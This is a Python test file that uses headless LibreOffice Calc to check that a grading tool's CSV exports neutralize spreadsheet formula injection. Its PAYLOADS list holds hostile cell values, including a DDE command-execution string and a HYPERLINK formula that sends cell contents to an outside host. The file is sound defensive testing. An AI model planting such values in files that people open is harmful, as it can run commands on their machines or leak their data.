"""A real spreadsheet as the oracle of irlab's CSV-injection rule (irlab/spreadsheet.py).

LibreOffice Calc opens the gradebook exports with formula evaluation on and writes back what its cells hold. A raw
control file proves that Calc really evaluates a formula cell there (``=1+2`` comes back as ``3``); in irlab's own
exports every hostile id, name, e-mail and answer comes back as the text the student typed, and every score comes back
as a number. Skipped without ``soffice`` (Debian: ``apt-get install libreoffice-calc-nogui``; not in .ci/run, about
300 MB); tests/test_safety_exports.py checks the same rule without a spreadsheet.
"""

import csv
import shutil
import subprocess
from pathlib import Path

import pytest

from irlab.cli import main

SOFFICE = shutil.which("soffice")
pytestmark = pytest.mark.skipif(SOFFICE is None, reason="skips the spreadsheet oracle: LibreOffice (soffice) is absent")

PAYLOADS = ['=HYPERLINK("http://x/?"&A1;"x")', "=cmd|' /C calc'!A0", "+evil@x.org", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]
# comma-separated, '"' quotes, UTF-8 (76), first line 1; 'true' at position 8 of the import filter: evaluate formulas
_READ = "CSV:44,34,76,1,,0,false,false,false,false,false"
_WRITE = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false"


def _through_calc(path: Path, out: Path) -> list[list[str]]:
    """The file as Calc reads it (formulas evaluated), written back as CSV of cell values."""
    profile = out / "profile"
    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", f"--infilter={_READ}",
                    "--convert-to", _WRITE, "--outdir", str(out), str(path)],
                   check=True, capture_output=True, timeout=180)
    converted = out / path.name
    with converted.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_calc_evaluates_a_raw_formula_cell(tmp_path):
    control = tmp_path / "control.csv"
    control.write_text("a,b\n=1+2,-0.5\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    assert _through_calc(control, out)[1] == ["3", "-0.5"]


def test_hostile_cells_reach_calc_as_text_and_scores_as_numbers(tmp_path, capsys):
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name", "email"])
        for n, payload in enumerate(PAYLOADS):
            writer.writerow([f"s{n}{payload}" if payload[0] in "\t\r" else payload, payload, f"{payload}@x"])
    answers = tmp_path / "answers.csv"
    with answers.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student", "exercise", "question", "answer"])
        writer.writerow(["+evil@x.org", "8.9", "a", "=1+2"])
    exported = {}
    for layout in ("canvas", "moodle", "csv"):
        code = main(["grade", "exercises/chapter8-book.toml", str(answers), "--roster", str(roster), "--as-written",
                     "--format", layout])
        assert code == 0
        path = tmp_path / f"{layout}.csv"
        path.write_text(capsys.readouterr().out, encoding="utf-8")
        out = tmp_path / f"out-{layout}"
        out.mkdir()
        exported[layout] = _through_calc(path, out)
    moodle = exported["moodle"]

    def as_text(cell, payload):  # the text as typed, or with the apostrophe shown (Calc's CSV import keeps it)
        return cell in (payload, "'" + payload)

    # what a teacher sees in Calc: the text as typed, never a formula's result or '#NAME?'
    for row, payload in zip(moodle[1:6], PAYLOADS):
        assert as_text(row[0], payload) and as_text(row[2], payload), (row, payload)
        assert as_text(row[1], f"{payload}@x"), (row, payload)
    canvas = exported["canvas"]
    assert canvas[1][-2:] == ["8", "100"]  # Points Possible: numbers stay numbers
    assert all(cell.lstrip("-").isdigit() for row in canvas[2:] for cell in row[5:])
    report = exported["csv"]
    answered = [row for row in report[1:] if as_text(row[0], "+evil@x.org") and row[2] == "a"]
    assert answered and as_text(answered[0][5], "=1+2")
